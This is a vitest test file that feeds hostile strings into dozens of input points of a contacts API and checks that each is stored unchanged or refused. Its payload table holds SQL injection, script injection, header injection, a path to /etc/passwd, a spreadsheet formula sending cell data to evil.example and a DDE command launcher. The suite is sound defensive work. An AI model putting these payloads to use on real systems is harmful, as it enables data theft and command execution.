import type { Field } from '@cardfile/openapi'
import { beforeAll, describe, expect, it } from 'vitest'
import { target } from '../targets/index.ts'
import { type Api, type ContactBody, freshEmail, startApi } from './support/api.ts'
import { beginImport, download, type ImportBody, putChunk, rowsOfFile } from './support/imports.ts'

const contacts = '/api/v1/contacts'
const fields = '/api/v1/fields'
const mappings = '/api/v1/import-mappings'

const payloads: Record<string, string> = {
  'SQL, a string': "'; DROP TABLE contacts; --",
  'SQL, an identifier': '"]) UNION SELECT hash FROM api_keys --',
  'SQL, a pattern': '%_\\',
  'a JSON path': "$.f1') = 1 OR json_extract(data, '$",
  'a search expression': 'name:* OR (NEAR "',
  'a script': '<img src=x onerror="window.ran=1"><script>window.ran=1</script>',
  'a link that is a script': 'javascript:window.ran=1',
  'a header': 'x\r\nSet-Cookie: injected=1\r\n\r\n<p>',
  'a prototype': '__proto__',
  'a constructor': 'constructor.prototype.polluted',
  'a regular expression': '(a+)+$',
  'what is slow for one': `${'a'.repeat(200)}!`,
  'a formula': '=HYPERLINK("http://evil.example/"&A1,"x")',
  'a formula with a sign': "+cmd|' /C calc'!A0",
  'a formula after a tab': '\t=1+1',
  'a template': '${7*7}{{7*7}}',
  'a path': '../../../etc/passwd',
}

/** Where somebody's text can go. `read` finds it again, where it is taken; refusing it is as good. */
interface Place {
  name: string
  send(text: string): ReturnType<Api['send']>
  read?(body: Record<string, unknown>, text: string): unknown
}

let api: Api
let note: Field
let importId: string
let serial = 0

beforeAll(async () => {
  api = await startApi()
  note = await api.field({ name: 'Note', type: 'text' })
  await api.field({ name: 'Site', type: 'url' })
  importId = (await beginImport(api, 'merge', ['Name', 'Email', 'Note'])).id
})

const made = (values: object) =>
  api.post(contacts, { values: { name: 'x', email: [freshEmail()], ...values } })
const ofValues = (key: string) => (body: Record<string, unknown>) =>
  (body as unknown as ContactBody).values[key]
const unique = (text: string) => `${text}${++serial}`

const headed = (heading: string) => ({ heading, field: 'name' })

const plain = (text: string) => text.trim().replaceAll('\r\n', '\n')

const places: Place[] = [
  { name: 'a name', send: (name) => made({ name }), read: ofValues('name') },
  { name: 'a custom value', send: (text) => made({ note: text }), read: ofValues('note') },
  {
    name: 'a long text',
    send: (text) => made({ description: text }),
    read: ofValues('description'),
  },
  {
    name: 'a note',
    send: async (text) => {
      const { body } = await made({})
      return api.post(`${contacts}/${body.id}/notes`, { text })
    },
    read: (body) => body.text,
  },
  { name: 'a URL', send: (text) => made({ site: text }), read: ofValues('site') },
  { name: 'an identity', send: (text) => made({ external_id: [unique(text)] }) },
  { name: 'an e-mail address', send: (text) => made({ email: [text] }) },
  {
    name: 'a key of values',
    send: (text) =>
      api.post(contacts, { values: { name: 'x', email: [freshEmail()], [text]: 'y' } }),
  },
  { name: 'an id', send: (text) => api.get(`${contacts}/${encodeURIComponent(text)}`) },
  {
    name: 'a version',
    send: (text) =>
      api.send('PATCH', `${contacts}/x`, {
        ifMatch: `"${text.replaceAll(/[^\x20-\x7e]/g, '')}"`,
        body: { values: {} },
      }),
  },
  { name: 'a search', send: (q) => api.get(`${contacts}?${new URLSearchParams({ q })}`) },
  ...['eq', 'contains', 'startswith', 'in', 'between'].map((operator): Place => ({
    name: `a filter (${operator})`,
    send: (text) =>
      api.post(`${contacts}:query`, {
        filter: {
          field: 'note',
          operator,
          value: operator === 'in' || operator === 'between' ? [text, text] : text,
        },
      }),
  })),
  {
    name: 'a filter’s field',
    send: (field) =>
      api.post(`${contacts}:query`, { filter: { field, operator: 'eq', value: 'x' } }),
  },
  {
    name: 'a filter’s operator',
    send: (operator) =>
      api.post(`${contacts}:query`, { filter: { field: 'note', operator, value: 'x' } }),
  },
  { name: 'a sort', send: (sort) => api.get(`${contacts}?${new URLSearchParams({ sort })}`) },
  { name: 'a cursor', send: (cursor) => api.get(`${contacts}?${new URLSearchParams({ cursor })}`) },
  {
    name: 'a column of an export',
    send: (columns) =>
      api.get(`/api/v1/exports/contacts?${new URLSearchParams({ columns, format: 'csv' })}`),
  },
  {
    name: 'a field’s name',
    send: (text) => api.post(fields, { name: text, type: 'text' }),
    read: ({ name }) => name,
  },
  {
    name: 'a field’s key',
    send: (key) => api.post(fields, { name: unique('Keyed '), type: 'text', key }),
    read: ({ key }) => key,
  },
  {
    name: 'a help text',
    send: (helpText) => api.post(fields, { name: unique('Helped '), type: 'text', helpText }),
    read: ({ helpText }) => helpText,
  },
  {
    name: 'a default',
    send: (defaultValue) =>
      api.post(fields, { name: unique('Given '), type: 'text', defaultValue }),
    read: ({ defaultValue }) => defaultValue,
  },
  {
    name: 'an option',
    send: (text) =>
      api.post(fields, { name: unique('Chosen '), type: 'dropdown', options: [{ text }] }),
    read: ({ options }) => (options as { text: string }[])[0]?.text,
  },
  {
    name: 'a role of a field',
    send: (text) =>
      api.send('PATCH', `${fields}/${note.id}`, { ifMatch: '*', body: { viewRoles: [text] } }),
  },
  {
    name: 'a role’s name',
    send: (text) => api.post('/api/v1/roles', { name: text, permissions: [] }),
    read: ({ name }) => name,
  },
  {
    name: 'a key’s name',
    send: (name) => api.post('/api/v1/api-keys', { name, roleId: 'viewer' }),
    read: ({ key }) => (key as { name: string }).name,
  },
  {
    name: 'a person’s name',
    send: (name) =>
      api.post('/api/v1/people', { name, email: `p${++serial}@example.com`, roleId: 'viewer' }),
    read: ({ person }) => (person as { name: string }).name,
  },
  {
    name: 'a person’s address',
    send: (email) => api.post('/api/v1/people', { name: 'P', email, roleId: 'viewer' }),
  },
  {
    name: 'a file’s name',
    send: (fileName) =>
      api.post('/api/v1/imports', { fileName, mode: 'merge', headings: ['Name', 'Email'] }),
    read: ({ fileName }) => fileName,
  },
  {
    name: 'a heading',
    send: (heading) =>
      api.post('/api/v1/imports', {
        fileName: 'f',
        mode: 'merge',
        headings: ['Name', 'Email', heading],
      }),
    read: (body) => (body as unknown as ImportBody).columns[2]?.heading,
  },
  {
    name: 'a saved mapping’s name',
    send: (name) => api.post(mappings, { name, mode: 'merge', columns: [headed('Name')] }),
    read: ({ name }) => name,
  },
  {
    name: 'a heading of a saved mapping',
    send: (heading) =>
      api.post(mappings, {
        name: unique('Mapping '),
        mode: 'merge',
        columns: [headed(heading)],
      }),
    read: (body) => (body.columns as { heading: string }[])[0]?.heading,
  },
  {
    name: 'a constant of a saved mapping',
    send: (value) =>
      api.post(mappings, {
        name: unique('Mapping '),
        mode: 'merge',
        columns: [headed('Name')],
        constants: [{ field: 'description', value }],
      }),
    read: ({ constants }) => (constants as { value: string }[])[0]?.value,
  },
  {
    name: 'headings to find a mapping by',
    send: (heading) => api.post(`${mappings}:find`, { headings: [heading] }),
    read: ({ data }) => (data as { columns: { heading: string }[] }[])[0]?.columns[0]?.heading,
  },
  {
    name: 'an actor of the audit log',
    send: (actor) => api.get(`/api/v1/audit?${new URLSearchParams({ actor })}`),
  },
  {
    name: 'an Idempotency-Key',
    send: (text) =>
      api.post(
        contacts,
        { values: { name: 'x', email: [freshEmail()] } },
        { headers: { 'idempotency-key': text.replaceAll(/[^\x21-\x7e]/g, '?') } },
      ),
  },
]

async function timeOf<T>(send: () => Promise<T>): Promise<{ answer: T; time: number }> {
  const begun = performance.now()
  const answer = await send()
  return { answer, time: performance.now() - begun }
}

describe(`hostile text on ${target.runtime}`, () => {
  it.each(Object.entries(payloads))(
    'that is %s is stored as it is or refused, everywhere',
    async (_, text) => {
      for (const { name, send, read } of places) {
        const cost = await timeOf(() => send(text))
        const { status, body, headers } = cost.answer
        expect(status, `${name}: ${JSON.stringify(body)}`).toBeLessThan(500)
        if (status < 300 && read) {
          const stored = String(read(body as unknown as Record<string, unknown>, text))
          // Around a text, space may go, and lines end in one way; nothing else.
          expect(plain(stored), name).toBe(plain(text))
        }
        expect(
          [...headers.keys()].filter((key) => /injected|set-cookie/.test(key)),
          name,
        ).toEqual([])
        // A text that costs too much does so each time; a machine that was held up, once.
        const again = cost.time < 5_000 ? cost : await timeOf(() => send(text))
        expect(again.time, name).toBeLessThan(5_000)
      }
      expect(({} as { polluted?: unknown }).polluted).toBeUndefined()
    },
  )

  it('in the rows of a file stays what it is', async () => {
    const rows = Object.values(payloads).map((text, index) => ({
      number: index + 2,
      cells: [text, freshEmail(), text],
    }))
    const { status, body } = await putChunk(api, importId, 0, rows)
    expect(status, JSON.stringify(body)).toBe(200)
    const { counts } = body.chunk
    expect(counts.created + counts.failed).toBe(rows.length)
    expect(counts.created).toBeGreaterThan(10)
  })

  it('is no formula in a file that leaves, and comes back from it as it was', async () => {
    await api.send('PATCH', `${fields}/${note.id}`, { ifMatch: '*', body: { viewRoles: null } })
    const path = '/api/v1/exports/contacts?columns=name,note&format='
    const csv = await (await download(api, `${path}csv`)).text()
    // A cell that a spreadsheet would calculate begins with one of these; ours begin with a quote.
    expect(csv).toContain('HYPERLINK')
    expect(csv).not.toMatch(/(?:^|[,;\n]|(?:^|[,;\n])")[=+@\t]/)
    const rows = await rowsOfFile(await download(api, `${path}xlsx`))
    const names = rows.map(({ cells }) => cells[0])
    for (const text of ['SQL, a string', 'a script', 'a formula'] as const)
      expect(names).toContain(payloads[text])
  })

  it('has left everything in its place', async () => {
    const { rows } = await api.client.execute('SELECT count(*) AS n FROM contacts')
    expect(Number(rows[0]?.n)).toBeGreaterThan(50)
    expect((await api.get<{ data: unknown[] }>('/api/v1/api-keys')).status).toBe(200)
    expect((await api.list({ q: 'etc/passwd' })).body.total).toBeGreaterThan(0)
    await api.readDocument()
  })
})
